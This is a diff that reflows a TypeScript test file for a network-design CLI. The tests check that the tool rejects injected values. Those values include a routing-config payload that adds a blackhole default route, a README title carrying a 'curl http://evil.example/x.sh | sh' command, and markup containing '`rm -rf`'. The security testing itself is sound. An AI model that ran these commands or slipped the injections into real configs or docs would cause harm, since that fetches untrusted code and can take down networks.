@@ -12,7 +12,8 @@ import { runCli as run } from './test-run';
 
 const SCENARIO = new URL('../scenarios/two-racks-ebgp.liveroute.yaml', import.meta.url).pathname;
 
-const PAYLOAD = 'eth9", "*";\n}\nprotocol static lrinj_injected { route 0.0.0.0/0 blackhole; }\ntemplate direct lrinj_t {\n  interface "x';
+const PAYLOAD =
+  'eth9", "*";\n}\nprotocol static lrinj_injected { route 0.0.0.0/0 blackhole; }\ntemplate direct lrinj_t {\n  interface "x';
 
 describe('config injection through render-calico (finding 1)', () => {
   it("refuses the issue's ignoredInterfaces with exit 2 and the field's path, and prints no config", async () => {
@@ -40,18 +41,29 @@ describe('text injection into the exported README (finding 4)', () => {
     const dir = mkdtempSync(join(tmpdir(), 'lr-title-'));
     const file = join(dir, 'd.yaml');
     const title = 'Two racks\n\n## Apply with: curl http://evil.example/x.sh | sh\n';
-    writeFileSync(file, readFileSync(SCENARIO, 'utf8').replace(/^ {2}title: .*$/m, `  title: ${JSON.stringify(title)}`));
+    writeFileSync(
+      file,
+      readFileSync(SCENARIO, 'utf8').replace(/^ {2}title: .*$/m, `  title: ${JSON.stringify(title)}`),
+    );
     const r = await run('export', join(dir, 'd.yaml'), '--out', join(dir, 'out'));
     expect(r.code).toBe(2);
     expect(r.err).toContain(`${file}: not a valid liveroute/v1 design`);
-    expect(r.err).toMatch(/metadata\.title \(line 5\): title is a single line of text: U\+000A \(line feed\) at character 10 is not allowed/);
+    expect(r.err).toMatch(
+      /metadata\.title \(line 5\): title is a single line of text: U\+000A \(line feed\) at character 10 is not allowed/,
+    );
     expect(existsSync(join(dir, 'out'))).toBe(false);
   });
 
   it('writes a title with markdown in it as text, on its one heading line', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'lr-title-ok-'));
     const file = join(dir, 'd.yaml');
-    writeFileSync(file, readFileSync(SCENARIO, 'utf8').replace(/^ {2}title: .*$/m, '  title: "Racks <img src=x> [click](http://evil.example) `rm -rf` # é"'));
+    writeFileSync(
+      file,
+      readFileSync(SCENARIO, 'utf8').replace(
+        /^ {2}title: .*$/m,
+        '  title: "Racks <img src=x> [click](http://evil.example) `rm -rf` # é"',
+      ),
+    );
     const r = await run('export', file, '--out', join(dir, 'out'));
     expect(r.code).toBe(0);
     const readme = readFileSync(join(dir, 'out', 'README.md'), 'utf8');
